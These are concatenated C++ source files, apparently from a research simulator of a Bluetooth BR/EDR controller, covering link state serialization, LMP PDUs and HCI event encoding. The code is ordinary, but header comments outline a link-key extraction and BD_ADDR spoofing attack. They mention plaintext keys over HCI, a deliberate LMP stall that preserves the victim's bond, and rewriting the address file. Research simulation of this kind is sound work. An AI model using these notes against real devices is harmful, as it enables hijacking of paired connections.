    link.key = r.fixed<std::tuple_size_v<crypto::LinkKey>>();
    link.have_key = r.boolean();
    link.challenge = r.fixed<std::tuple_size_v<crypto::Rand128>>();
    link.pending_au_rand = r.fixed<std::tuple_size_v<crypto::Rand128>>();
    link.have_pending_au_rand = r.boolean();
    link.pending_au_rand_is_sc = r.boolean();
    link.sc_expected_sres = r.fixed<std::tuple_size_v<crypto::Sres>>();
    link.sc_in_use = r.boolean();
    link.aco = r.fixed<std::tuple_size_v<crypto::Aco>>();
    link.have_aco = r.boolean();

    if (r.boolean()) {
      auto ssp = std::make_unique<SspContext>();
      ssp->initiator = r.boolean();
      const std::uint8_t coord_size = r.u8();
      if (coord_size == 24) ssp->curve = &crypto::EcCurve::p192();
      else if (coord_size == 32) ssp->curve = &crypto::EcCurve::p256();
      else ssp->curve = nullptr;
      ssp->local_keypair.private_key = load_u256(r);
      ssp->local_keypair.public_key = load_point(r);
      ssp->peer_public = load_point(r);
      ssp->have_peer_key = r.boolean();
      ssp->local_nonce = r.fixed<std::tuple_size_v<crypto::Rand128>>();
      ssp->peer_nonce = r.fixed<std::tuple_size_v<crypto::Rand128>>();
      ssp->have_peer_nonce = r.boolean();
      ssp->peer_commitment = r.fixed<std::tuple_size_v<crypto::LinkKey>>();
      ssp->have_commitment = r.boolean();
      ssp->local_iocap = load_iocap(r);
      ssp->peer_iocap = load_iocap(r);
      ssp->dhkey = load_u256(r);
      ssp->have_dhkey = r.boolean();
      ssp->local_confirmed = r.boolean();
      ssp->held_dhkey_check = r.bytes();
      link.ssp = std::move(ssp);
    }

    if (r.boolean()) {
      auto legacy = std::make_unique<LegacyContext>();
      legacy->initiator = r.boolean();
      legacy->in_rand = r.fixed<std::tuple_size_v<crypto::Rand128>>();
      legacy->have_in_rand = r.boolean();
      legacy->kinit = r.fixed<std::tuple_size_v<crypto::LinkKey>>();
      legacy->have_kinit = r.boolean();
      legacy->local_lk_rand = r.fixed<std::tuple_size_v<crypto::Rand128>>();
      legacy->sent_comb = r.boolean();
      link.legacy = std::move(legacy);
    }

    link.encrypted = r.boolean();
    link.enc_key = r.fixed<std::tuple_size_v<crypto::EncryptionKey>>();
    link.pending_en_rand = r.fixed<std::tuple_size_v<crypto::Rand128>>();
    link.tx_counter = r.u32();
    link.rx_counter = r.u32();
    const std::uint64_t queued = r.u64();
    for (std::uint64_t f = 0; f < queued && r.ok(); ++f)
      link.tx_queue.push_back(r.bytes());
    link.tx_busy = r.boolean();
    link.obs_auth_span = r.u64();
    link.obs_pair_span = r.u64();
    link.obs_enc_span = r.u64();

    // Timers are EventHandles: in kInPlace mode the live handles on the
    // existing link entry stay armed; after a rewind every handle is stale
    // by construction and a default handle is the correct restored value.
    if (mode == state::RestoreMode::kInPlace) {
      if (const auto it = links_.find(link.handle); it != links_.end()) {
        link.lmp_timer = it->second.lmp_timer;
        link.accept_timer = it->second.accept_timer;
        link.supervision_timer = it->second.supervision_timer;
      }
    }
    restored.emplace(link.handle, std::move(link));
  }
  if (r.ok()) links_ = std::move(restored);
  // The medium's section restored before this one and indexed our
  // *pre-restore* address and scan bits; re-sync now that they are final.
  medium_.notify_endpoint_changed(this);
}

}  // namespace blap::controller
