// controller.hpp — the simulated Bluetooth BR/EDR controller.
//
// This is the chipset side of the architecture: it terminates the HCI
// (commands in, events out), owns the baseband (inquiry/page via the radio
// medium) and runs the Link Manager (SSP pairing, E1 challenge–response,
// encryption start). It is deliberately *unmodified* by either BLAP attack —
// the paper's point is that both attacks work purely above the controller —
// so there are no attack hooks here; all manipulation happens in the host.
//
// Security-relevant behaviours reproduced faithfully:
//   * the controller has no persistent key storage: every authentication
//     pulls the link key from the host over the HCI
//     (HCI_Link_Key_Request → HCI_Link_Key_Request_Reply, in plaintext);
//   * a freshly derived SSP link key is pushed to the host in plaintext
//     (HCI_Link_Key_Notification);
//   * an unanswered LMP challenge times out with LMP Response Timeout —
//     NOT Authentication Failure — which is why the extraction attack's
//     deliberate stall (paper §IV-C step 5) leaves the victim's bond intact.
#pragma once

#include <deque>
#include <map>
#include <memory>
#include <string>

#include "common/bdaddr.hpp"
#include "common/log.hpp"
#include "common/rng.hpp"
#include "crypto/e0.hpp"
#include "crypto/e1.hpp"
#include "crypto/ssp_functions.hpp"
#include "controller/lmp.hpp"
#include "obs/obs.hpp"
#include "hci/commands.hpp"
#include "hci/events.hpp"
#include "radio/radio_medium.hpp"
#include "transport/transport.hpp"

namespace blap::controller {

struct ControllerConfig {
  BdAddr address;
  ClassOfDevice class_of_device{ClassOfDevice::kMobilePhone};
  std::string name = "blap-device";
  /// Secure Connections support: pair on P-256 instead of P-192.
  bool secure_connections = false;
  /// Average page-scan interval; page-response latency is sampled uniformly
  /// in [0, interval). This is the knob behind the Table II baseline race.
  SimTime page_scan_interval = static_cast<SimTime>(1.28 * kSecond);
  SimTime page_timeout = 5 * kSecond;
  SimTime connection_accept_timeout = 5 * kSecond;
  /// LMP transactions may span user interaction (pairing popups), so real
  /// controllers allow tens of seconds before giving up on a peer.
  SimTime lmp_response_timeout = 30 * kSecond;

  // ——— Degraded-channel behaviour. These three knobs only ever act while
  // the radio medium carries an enabled FaultPlan; on a clean channel no
  // ARQ report or supervision timer is scheduled at all, keeping fault-free
  // runs byte-identical to a build without the fault layer. ———
  /// Baseband ARQ: how many retransmissions an unacknowledged frame gets
  /// before the sender gives up (and the supervision timer decides).
  unsigned arq_max_retransmissions = 4;
  /// Delay before the first retransmission; doubles per attempt.
  SimTime arq_backoff_base = 2 * kSlot;
  /// Link supervision timeout (spec default 0x7D00 slots = 20 s): if no
  /// frame is received for this long the link is declared dead and torn
  /// down with HCI_Disconnection_Complete reason kConnectionTimeout.
  SimTime supervision_timeout = 20 * kSecond;
};

class Controller final : public radio::RadioEndpoint {
 public:
  Controller(Scheduler& scheduler, radio::RadioMedium& medium,
             transport::HciTransport& transport, ControllerConfig config, Rng rng);
  ~Controller() override;

  // RadioEndpoint
  [[nodiscard]] BdAddr radio_address() const override { return config_.address; }
  [[nodiscard]] ClassOfDevice radio_class_of_device() const override {
    return config_.class_of_device;
  }
  [[nodiscard]] std::string radio_name() const override { return config_.name; }
  [[nodiscard]] bool inquiry_scan_enabled() const override;
  [[nodiscard]] bool page_scan_enabled() const override;
  [[nodiscard]] SimTime sample_page_response_latency(Rng& rng) override;
  void on_link_established(radio::LinkId link, const BdAddr& peer, bool initiator) override;
  void on_link_closed(radio::LinkId link, std::uint8_t reason) override;
  void on_air_frame(radio::LinkId link, const Bytes& frame) override;

  /// Reconfigure identity (models rewriting /persist/bdaddr.txt and
  /// bt_target.h before the stack restarts — the paper's spoofing step).
  /// Out of line: the medium's BD_ADDR index must hear about the change.
  void set_address(const BdAddr& address);
  void set_class_of_device(ClassOfDevice cod) { config_.class_of_device = cod; }
  [[nodiscard]] const ControllerConfig& config() const { return config_; }

  /// Wire the simulation's observer (null = off). The trace lane is keyed
  /// by the device *name*, which — unlike the BD_ADDR — survives spoofing.
  void set_observer(obs::Observer* observer) {
    obs_ = observer;
    obs_tid_ = observer != nullptr ? observer->device_tid(config_.name) : 0;
  }

  /// Re-sync per-link fault machinery with the medium's current FaultPlan:
  /// arms supervision timers on live links when faults just came on,
  /// cancels them when the plan was cleared. Simulation::set_fault_plan
  /// calls this so a plan installed mid-scenario guards existing links.
  void refresh_fault_state();

  /// Snapshot support (see src/snapshot/). quiescent() is the strict-capture
  /// precondition: no inquiry in flight and every link fully connected with
  /// no pairing/authentication exchange or ARQ transmission open. The SSP
  /// curve is serialized by coordinate width (24 → P-192, 32 → P-256) since
  /// EcCurve instances are process-global singletons.
  [[nodiscard]] bool quiescent() const;
  void save_state(state::StateWriter& w) const;
  void load_state(state::StateReader& r, state::RestoreMode mode);

  /// Replace the controller's random stream (the per-trial reseed path).
  void set_rng(Rng rng) { rng_ = rng; }

  /// One link's externally checkable state, for the cross-layer invariant
  /// monitor (src/invariants/). Exposes no key material.
  struct LinkAudit {
    hci::ConnectionHandle handle = hci::kInvalidHandle;
    radio::LinkId radio_link = 0;
    BdAddr peer;
    bool connected = false;  // LinkState::kConnected (host-visible)
    bool tx_busy = false;
    std::size_t tx_queue_depth = 0;
  };
  [[nodiscard]] std::vector<LinkAudit> audit_links() const;

 private:
  enum class LinkState : std::uint8_t {
    kAwaitingHostConnectionReq,  // responder: baseband up, LMP host conn pending
    kHostAcceptPending,          // responder: Connection_Request sent to host
    kConnecting,                 // initiator: waiting for LMP_accepted
    kConnected,
  };

  enum class AuthState : std::uint8_t {
    kIdle,
    kWaitLocalKey,        // verifier: asked own host for the link key
    kWaitSres,            // verifier: challenge sent, waiting for response
    kClaimWaitLocalKey,   // claimant: asked own host for key to answer au_rand
    kWaitMutualDone,      // initiator: waiting for peer's reverse challenge
    kScWaitMasterSres,    // SC claimant: answered, awaiting verifier's SRES
    kPairing,             // SSP / legacy pairing in progress
  };

  struct SspContext {
    bool initiator = false;
    const crypto::EcCurve* curve = nullptr;
    crypto::EcKeyPair local_keypair;
    crypto::EcPoint peer_public;
    bool have_peer_key = false;
    crypto::Rand128 local_nonce{};
    crypto::Rand128 peer_nonce{};
    bool have_peer_nonce = false;
    crypto::LinkKey peer_commitment{};
    bool have_commitment = false;
    crypto::IoCapTriplet local_iocap{};
    crypto::IoCapTriplet peer_iocap{};
    crypto::U256 dhkey;
    bool have_dhkey = false;
    bool local_confirmed = false;
    Bytes held_dhkey_check;  // responder: Ea arrived before local confirm
  };

  /// Legacy PIN pairing state (Vol 2, Part H §3: E22 init key + E21
  /// combination key exchange).
  struct LegacyContext {
    bool initiator = false;
    crypto::Rand128 in_rand{};
    bool have_in_rand = false;
    crypto::LinkKey kinit{};
    bool have_kinit = false;
    crypto::Rand128 local_lk_rand{};
    bool sent_comb = false;
  };

  struct Link {
    radio::LinkId radio_link = 0;
    hci::ConnectionHandle handle = hci::kInvalidHandle;
    BdAddr peer;
    bool initiator = false;
    LinkState state = LinkState::kConnected;
    // Authentication.
    AuthState auth = AuthState::kIdle;
    bool auth_requested_by_host = false;  // raise Authentication_Complete here
    crypto::LinkKey key{};
    bool have_key = false;
    crypto::Rand128 challenge{};        // our outstanding AU_RAND
    crypto::Rand128 pending_au_rand{};  // peer's challenge while we fetch key
    bool have_pending_au_rand = false;
    bool pending_au_rand_is_sc = false;  // peer challenged with kAuRandSc
    crypto::Sres sc_expected_sres{};     // SC claimant: verifier's expected SRES
    bool sc_in_use = false;              // this auth runs the h4/h5 procedure
    crypto::Aco aco{};
    bool have_aco = false;
    std::unique_ptr<SspContext> ssp;
    std::unique_ptr<LegacyContext> legacy;
    // Encryption.
    bool encrypted = false;
    crypto::EncryptionKey enc_key{};
    crypto::Rand128 pending_en_rand{};
    std::uint32_t tx_counter = 0;
    std::uint32_t rx_counter = 0;
    // In-order ARQ state (used only while faults are enabled). LMP and
    // encrypted ACL both depend on ordered delivery, so the baseband runs
    // stop-and-wait: a frame waits here until every frame ahead of it has
    // been ACKed or abandoned.
    std::deque<Bytes> tx_queue;
    bool tx_busy = false;
    // Timers.
    EventHandle lmp_timer;
    EventHandle accept_timer;
    EventHandle supervision_timer;  // armed only while faults are enabled
    // Open observability spans (0 = none).
    std::uint64_t obs_auth_span = 0;
    std::uint64_t obs_pair_span = 0;
    std::uint64_t obs_enc_span = 0;
  };

  // HCI plumbing.
  void on_command(const hci::HciPacket& packet);
  void send_event(const hci::HciPacket& packet);
  void command_complete(std::uint16_t opcode, hci::Status status);
  void command_complete_raw(std::uint16_t opcode, BytesView return_params);
  void command_status(std::uint16_t opcode, hci::Status status);

  // Command handlers.
  void handle_inquiry(const hci::InquiryCmd& cmd);
  void handle_create_connection(const hci::CreateConnectionCmd& cmd);
  void handle_accept_connection(const hci::AcceptConnectionRequestCmd& cmd);
  void handle_reject_connection(const hci::RejectConnectionRequestCmd& cmd);
  void handle_disconnect(const hci::DisconnectCmd& cmd);
  void handle_authentication_requested(const hci::AuthenticationRequestedCmd& cmd);
  void handle_link_key_reply(const hci::LinkKeyRequestReplyCmd& cmd);
  void handle_link_key_negative_reply(const hci::LinkKeyRequestNegativeReplyCmd& cmd);
  void handle_io_capability_reply(const hci::IoCapabilityRequestReplyCmd& cmd);
  void handle_pin_code_reply(const hci::PinCodeRequestReplyCmd& cmd);
  void handle_pin_code_negative_reply(const BdAddr& addr);
  void handle_user_confirmation(const BdAddr& addr, bool accepted);
  void handle_set_encryption(const hci::SetConnectionEncryptionCmd& cmd);
  void handle_remote_name_request(const hci::RemoteNameRequestCmd& cmd);

  // LMP receive path.
  void on_lmp(Link& link, const LmpPdu& pdu);
  void on_lmp_host_connection_req(Link& link);
  void on_lmp_accepted(Link& link, LmpOpcode about);
  void on_lmp_not_accepted(Link& link, const LmpNotAccepted& pdu);
  void on_lmp_au_rand(Link& link, const crypto::Rand128& rand);
  void on_lmp_sres(Link& link, const crypto::Sres& sres);
  void on_lmp_io_cap_req(Link& link, const LmpIoCap& iocap);
  void on_lmp_io_cap_res(Link& link, const LmpIoCap& iocap);
  void on_lmp_public_key(Link& link, const LmpPublicKey& key);
  void on_lmp_sp_confirm(Link& link, const crypto::LinkKey& commitment);
  void on_lmp_sp_number(Link& link, const crypto::Rand128& nonce);
  void on_lmp_dhkey_check(Link& link, const crypto::LinkKey& check);
  void on_lmp_encryption_mode_req(Link& link);
  void on_lmp_start_encryption_req(Link& link, const crypto::Rand128& en_rand);
  void on_lmp_in_rand(Link& link, const crypto::Rand128& in_rand);
  void on_lmp_comb_key(Link& link, const crypto::LinkKey& masked_contribution);

  // Legacy pairing helpers.
  void start_legacy_pairing_as_initiator(Link& link);
  void send_comb_key_contribution(Link& link);
  void finish_legacy_pairing(Link& link, const crypto::LinkKey& peer_lk_rand);

  // SSP helpers.
  void start_pairing_as_initiator(Link& link);
  void continue_initiator_after_iocap(Link& link);
  void send_public_key(Link& link);
  void maybe_raise_user_confirmation(Link& link);
  void send_dhkey_check(Link& link);
  void verify_peer_dhkey_check(Link& link, const crypto::LinkKey& check);
  void finish_pairing(Link& link, bool success);
  [[nodiscard]] crypto::LinkKeyType derived_key_type(const Link& link) const;

  // Auth helpers.
  void send_challenge(Link& link);
  void auth_failed(Link& link, hci::Status status);
  void auth_succeeded(Link& link);

  // Secure Connections authentication (h4/h5).
  void on_lmp_au_rand_sc(Link& link, const crypto::Rand128& rand);
  void on_lmp_sres_sc(Link& link, BytesView payload);
  void answer_sc_challenge(Link& link, const crypto::Rand128& rand);
  [[nodiscard]] crypto::LinkKey sc_device_key(const Link& link, bool we_are_verifier) const;

  // LMP send + timers.
  void send_lmp(Link& link, LmpOpcode opcode, Bytes payload = {});
  void arm_lmp_timer(Link& link);
  void disarm_lmp_timer(Link& link);
  void lmp_timeout(hci::ConnectionHandle handle);

  // Baseband ARQ + link supervision (active only under an enabled FaultPlan).
  void send_baseband(Link& link, Bytes air_frame);
  void arq_start_next(Link& link);
  void arq_transmit(hci::ConnectionHandle handle, unsigned attempt);
  void arq_on_report(hci::ConnectionHandle handle, unsigned attempt,
                     bool delivered);
  void arm_supervision_timer(Link& link);
  void supervision_timeout(hci::ConnectionHandle handle);

  // Link management.
  Link* link_by_handle(hci::ConnectionHandle handle);
  Link* link_by_peer(const BdAddr& peer);
  Link* link_by_radio(radio::LinkId id);
  void teardown_link(Link& link, hci::Status reason, bool notify_peer);

  // Observability helpers (no-ops while obs_ is null).
  void obs_begin_pair(Link& link, const char* kind);
  void obs_end_pair(Link& link, bool success);

  Scheduler& scheduler_;
  radio::RadioMedium& medium_;
  transport::HciTransport& transport_;
  ControllerConfig config_;
  Rng rng_;
  obs::Observer* obs_ = nullptr;
  std::uint32_t obs_tid_ = 0;

  hci::ScanEnable scan_enable_ = hci::ScanEnable::kInquiryAndPage;
  bool simple_pairing_mode_ = true;
  bool inquiring_ = false;

  // Ordered map: link_by_peer/link_by_radio scan in handle order so lookup
  // results (and every event they trigger) never depend on hash layout.
  std::map<hci::ConnectionHandle, Link> links_;
  hci::ConnectionHandle next_handle_ = 0x0001;
};

}  // namespace blap::controller
