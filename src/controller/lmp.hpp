// lmp.hpp — Link Manager Protocol PDUs exchanged between controllers.
//
// LMP is the controller-to-controller security and control plane (Vol 2,
// Part C): host connection setup, the SSP pairing sub-protocol, the E1
// challenge–response, and encryption start all run here. BLAP's attacks are
// deliberately *above* this layer (they never modify the controller), so the
// LMP engine below is a faithful, unmodified protocol participant — exactly
// the situation of the paper's unrooted victim controllers.
//
// Air frames are framed as [channel u8][payload]: channel 0 = LMP, 1 = ACL.
#pragma once

#include <optional>
#include <string>

#include "common/bdaddr.hpp"
#include "common/bytes.hpp"
#include "crypto/keys.hpp"

namespace blap::controller {

/// Air-frame channel discriminator.
enum class AirChannel : std::uint8_t { kLmp = 0, kAcl = 1 };

enum class LmpOpcode : std::uint8_t {
  kHostConnectionReq = 1,
  kAccepted = 2,
  kNotAccepted = 3,
  kSetupComplete = 4,
  kDetach = 5,
  kAuRand = 6,
  kSres = 7,
  kIoCapabilityReq = 8,
  kIoCapabilityRes = 9,
  kEncapsulatedPublicKey = 10,
  kSimplePairingConfirm = 11,
  kSimplePairingNumber = 12,
  kDhkeyCheck = 13,
  kEncryptionModeReq = 14,
  kStartEncryptionReq = 15,
  kStopEncryptionReq = 16,
  kNameReq = 17,
  kNameRes = 18,
  kPing = 19,  // keep-alive carrier for the PLOC dummy-traffic ablation
  // Legacy (pre-SSP) PIN pairing — the protocol SSP replaced (paper §II-C1).
  kInRand = 20,   // IN_RAND for the E22 initialization key
  kCombKey = 21,  // LK_RAND xor Kinit — combination key contribution
  // Secure Connections secure authentication (h4/h5, BT 4.1+): mutual
  // challenge-response in a single round trip.
  kAuRandSc = 22,  // verifier's R_M
  kSresSc = 23,    // claimant's R_S || SRES_slave
};

[[nodiscard]] const char* to_string(LmpOpcode opcode);

struct LmpPdu {
  LmpOpcode opcode = LmpOpcode::kPing;
  Bytes payload;

  [[nodiscard]] Bytes to_air_frame() const;
  [[nodiscard]] static std::optional<LmpPdu> from_air_frame(BytesView frame);
};

/// Frame an ACL (L2CAP) payload for the air.
[[nodiscard]] Bytes acl_air_frame(BytesView l2cap_payload);

/// If `frame` is an ACL air frame, return its payload.
[[nodiscard]] std::optional<Bytes> parse_acl_air_frame(BytesView frame);

// --- typed payload helpers ---------------------------------------------------

struct LmpIoCap {
  std::uint8_t io_capability = 0;
  std::uint8_t oob_data_present = 0;
  std::uint8_t authentication_requirements = 0;

  [[nodiscard]] Bytes encode() const;
  [[nodiscard]] static std::optional<LmpIoCap> decode(BytesView payload);
};

struct LmpPublicKey {
  Bytes x;  // big-endian coordinate at curve width
  Bytes y;

  [[nodiscard]] Bytes encode() const;
  [[nodiscard]] static std::optional<LmpPublicKey> decode(BytesView payload);
};

struct LmpNotAccepted {
  LmpOpcode rejected_opcode = LmpOpcode::kPing;
  std::uint8_t reason = 0;

  [[nodiscard]] Bytes encode() const;
  [[nodiscard]] static std::optional<LmpNotAccepted> decode(BytesView payload);
};

}  // namespace blap::controller
