#include "hci/events.hpp"

namespace blap::hci {

const char* event_name(std::uint8_t code) {
  switch (code) {
    case ev::kInquiryComplete: return "HCI_Inquiry_Complete";
    case ev::kInquiryResult: return "HCI_Inquiry_Result";
    case ev::kConnectionComplete: return "HCI_Connection_Complete";
    case ev::kConnectionRequest: return "HCI_Connection_Request";
    case ev::kDisconnectionComplete: return "HCI_Disconnection_Complete";
    case ev::kAuthenticationComplete: return "HCI_Authentication_Complete";
    case ev::kRemoteNameRequestComplete: return "HCI_Remote_Name_Request_Complete";
    case ev::kEncryptionChange: return "HCI_Encryption_Change";
    case ev::kCommandComplete: return "HCI_Command_Complete";
    case ev::kCommandStatus: return "HCI_Command_Status";
    case ev::kReturnLinkKeys: return "HCI_Return_Link_Keys";
    case ev::kPinCodeRequest: return "HCI_PIN_Code_Request";
    case ev::kLinkKeyRequest: return "HCI_Link_Key_Request";
    case ev::kLinkKeyNotification: return "HCI_Link_Key_Notification";
    case ev::kIoCapabilityRequest: return "HCI_IO_Capability_Request";
    case ev::kIoCapabilityResponse: return "HCI_IO_Capability_Response";
    case ev::kUserConfirmationRequest: return "HCI_User_Confirmation_Request";
    case ev::kSimplePairingComplete: return "HCI_Simple_Pairing_Complete";
    case ev::kExtendedInquiryResult: return "HCI_Extended_Inquiry_Result";
    default: return "HCI_Unknown_Event";
  }
}

const char* to_string(Status status) {
  switch (status) {
    case Status::kSuccess: return "Success";
    case Status::kUnknownConnectionIdentifier: return "Unknown Connection Identifier";
    case Status::kPageTimeout: return "Page Timeout";
    case Status::kAuthenticationFailure: return "Authentication Failure";
    case Status::kPinOrKeyMissing: return "PIN or Key Missing";
    case Status::kConnectionTimeout: return "Connection Timeout";
    case Status::kConnectionAlreadyExists: return "Connection Already Exists";
    case Status::kConnectionAcceptTimeout: return "Connection Accept Timeout Exceeded";
    case Status::kRemoteUserTerminatedConnection: return "Remote User Terminated Connection";
    case Status::kConnectionTerminatedByLocalHost: return "Connection Terminated By Local Host";
    case Status::kPairingNotAllowed: return "Pairing Not Allowed";
    case Status::kLmpResponseTimeout: return "LMP Response Timeout";
  }
  return "Unknown Status";
}

const char* to_string(IoCapability capability) {
  switch (capability) {
    case IoCapability::kDisplayOnly: return "DisplayOnly";
    case IoCapability::kDisplayYesNo: return "DisplayYesNo";
    case IoCapability::kKeyboardOnly: return "KeyboardOnly";
    case IoCapability::kNoInputNoOutput: return "NoInputNoOutput";
  }
  return "?";
}

HciPacket CommandCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(num_hci_command_packets).u16(command_opcode).raw(return_parameters);
  return make_event(ev::kCommandComplete, w.data());
}

std::optional<CommandCompleteEvt> CommandCompleteEvt::decode(BytesView params) {
  ByteReader r(params);
  auto num = r.u8();
  auto op_value = r.u16();
  if (!num || !op_value) return std::nullopt;
  CommandCompleteEvt evt;
  evt.num_hci_command_packets = *num;
  evt.command_opcode = *op_value;
  evt.return_parameters = to_bytes(r.rest());
  return evt;
}

HciPacket CommandStatusEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status)).u8(num_hci_command_packets).u16(command_opcode);
  return make_event(ev::kCommandStatus, w.data());
}

std::optional<CommandStatusEvt> CommandStatusEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto num = r.u8();
  auto op_value = r.u16();
  if (!status || !num || !op_value) return std::nullopt;
  return CommandStatusEvt{static_cast<Status>(*status), *num, *op_value};
}

HciPacket InquiryResultEvt::encode() const {
  ByteWriter w;
  w.u8(1);  // Num_Responses
  bdaddr.to_wire(w);
  w.u8(page_scan_repetition_mode);
  w.u8(0).u8(0);  // reserved
  class_of_device.to_wire(w);
  w.u16(clock_offset);
  return make_event(ev::kInquiryResult, w.data());
}

std::optional<InquiryResultEvt> InquiryResultEvt::decode(BytesView params) {
  ByteReader r(params);
  auto num = r.u8();
  if (!num || *num != 1) return std::nullopt;
  auto addr = BdAddr::from_wire(r);
  auto psrm = r.u8();
  if (!r.skip(2)) return std::nullopt;
  auto cod = ClassOfDevice::from_wire(r);
  auto clk = r.u16();
  if (!addr || !psrm || !cod || !clk) return std::nullopt;
  return InquiryResultEvt{*addr, *psrm, *cod, *clk};
}

HciPacket InquiryCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status));
  return make_event(ev::kInquiryComplete, w.data());
}

std::optional<InquiryCompleteEvt> InquiryCompleteEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  if (!status) return std::nullopt;
  return InquiryCompleteEvt{static_cast<Status>(*status)};
}

HciPacket ExtendedInquiryResultEvt::encode() const {
  ByteWriter w;
  w.u8(1);  // Num_Responses (always 1 for EIR)
  bdaddr.to_wire(w);
  w.u8(page_scan_repetition_mode);
  w.u8(0);  // reserved
  class_of_device.to_wire(w);
  w.u16(clock_offset);
  w.u8(static_cast<std::uint8_t>(rssi));
  // 240-byte EIR block: one structure — length | type 0x09 | name bytes.
  Bytes eir(240, 0);
  const std::size_t n = std::min<std::size_t>(name.size(), 238);
  eir[0] = static_cast<std::uint8_t>(n + 1);
  eir[1] = 0x09;  // Complete Local Name
  std::copy_n(name.begin(), n, eir.begin() + 2);
  w.raw(eir);
  return make_event(ev::kExtendedInquiryResult, w.data());
}

std::optional<ExtendedInquiryResultEvt> ExtendedInquiryResultEvt::decode(BytesView params) {
  ByteReader r(params);
  auto num = r.u8();
  if (!num || *num != 1) return std::nullopt;
  auto addr = BdAddr::from_wire(r);
  auto psrm = r.u8();
  if (!r.skip(1)) return std::nullopt;
  auto cod = ClassOfDevice::from_wire(r);
  auto clk = r.u16();
  auto rssi_raw = r.u8();
  if (!addr || !psrm || !cod || !clk || !rssi_raw || r.remaining() != 240) return std::nullopt;
  ExtendedInquiryResultEvt evt;
  evt.bdaddr = *addr;
  evt.page_scan_repetition_mode = *psrm;
  evt.class_of_device = *cod;
  evt.clock_offset = *clk;
  evt.rssi = static_cast<std::int8_t>(*rssi_raw);
  // Walk the EIR structures for the complete local name.
  BytesView eir = r.rest();
  std::size_t offset = 0;
  while (offset < eir.size()) {
    const std::uint8_t length = eir[offset];
    if (length == 0 || offset + 1 + length > eir.size()) break;
    const std::uint8_t type = eir[offset + 1];
    if (type == 0x09) {
      evt.name.assign(eir.begin() + static_cast<std::ptrdiff_t>(offset) + 2,
                      eir.begin() + static_cast<std::ptrdiff_t>(offset) + 1 + length);
      break;
    }
    offset += 1u + length;
  }
  return evt;
}

HciPacket ConnectionRequestEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  class_of_device.to_wire(w);
  w.u8(link_type);
  return make_event(ev::kConnectionRequest, w.data());
}

std::optional<ConnectionRequestEvt> ConnectionRequestEvt::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto cod = ClassOfDevice::from_wire(r);
  auto link = r.u8();
  if (!addr || !cod || !link) return std::nullopt;
  return ConnectionRequestEvt{*addr, *cod, *link};
}

HciPacket ConnectionCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status)).u16(handle);
  bdaddr.to_wire(w);
  w.u8(link_type).u8(encryption_enabled);
  return make_event(ev::kConnectionComplete, w.data());
}

std::optional<ConnectionCompleteEvt> ConnectionCompleteEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto handle = r.u16();
  auto addr = BdAddr::from_wire(r);
  auto link = r.u8();
  auto enc = r.u8();
  if (!status || !handle || !addr || !link || !enc) return std::nullopt;
  return ConnectionCompleteEvt{static_cast<Status>(*status), *handle, *addr, *link, *enc};
}

HciPacket DisconnectionCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status)).u16(handle).u8(static_cast<std::uint8_t>(reason));
  return make_event(ev::kDisconnectionComplete, w.data());
}

std::optional<DisconnectionCompleteEvt> DisconnectionCompleteEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto handle = r.u16();
  auto reason = r.u8();
  if (!status || !handle || !reason) return std::nullopt;
  return DisconnectionCompleteEvt{static_cast<Status>(*status), *handle,
                                  static_cast<Status>(*reason)};
}

HciPacket AuthenticationCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status)).u16(handle);
  return make_event(ev::kAuthenticationComplete, w.data());
}

std::optional<AuthenticationCompleteEvt> AuthenticationCompleteEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto handle = r.u16();
  if (!status || !handle) return std::nullopt;
  return AuthenticationCompleteEvt{static_cast<Status>(*status), *handle};
}

HciPacket RemoteNameRequestCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status));
  bdaddr.to_wire(w);
  Bytes padded(248, 0);
  const std::size_t n = std::min<std::size_t>(remote_name.size(), 247);
  std::copy_n(remote_name.begin(), n, padded.begin());
  w.raw(padded);
  return make_event(ev::kRemoteNameRequestComplete, w.data());
}

std::optional<RemoteNameRequestCompleteEvt> RemoteNameRequestCompleteEvt::decode(
    BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto addr = BdAddr::from_wire(r);
  if (!status || !addr || r.remaining() != 248) return std::nullopt;
  RemoteNameRequestCompleteEvt evt;
  evt.status = static_cast<Status>(*status);
  evt.bdaddr = *addr;
  for (std::uint8_t b : r.rest()) {
    if (b == 0) break;
    evt.remote_name.push_back(static_cast<char>(b));
  }
  return evt;
}

HciPacket EncryptionChangeEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status)).u16(handle).u8(encryption_enabled);
  return make_event(ev::kEncryptionChange, w.data());
}

std::optional<EncryptionChangeEvt> EncryptionChangeEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto handle = r.u16();
  auto enc = r.u8();
  if (!status || !handle || !enc) return std::nullopt;
  return EncryptionChangeEvt{static_cast<Status>(*status), *handle, *enc};
}

HciPacket LinkKeyRequestEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_event(ev::kLinkKeyRequest, w.data());
}

std::optional<LinkKeyRequestEvt> LinkKeyRequestEvt::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return LinkKeyRequestEvt{*addr};
}

HciPacket LinkKeyNotificationEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  for (std::size_t i = link_key.size(); i-- > 0;) w.u8(link_key[i]);
  w.u8(static_cast<std::uint8_t>(key_type));
  return make_event(ev::kLinkKeyNotification, w.data());
}

std::optional<LinkKeyNotificationEvt> LinkKeyNotificationEvt::decode(BytesView params) {
  ByteReader r(params);
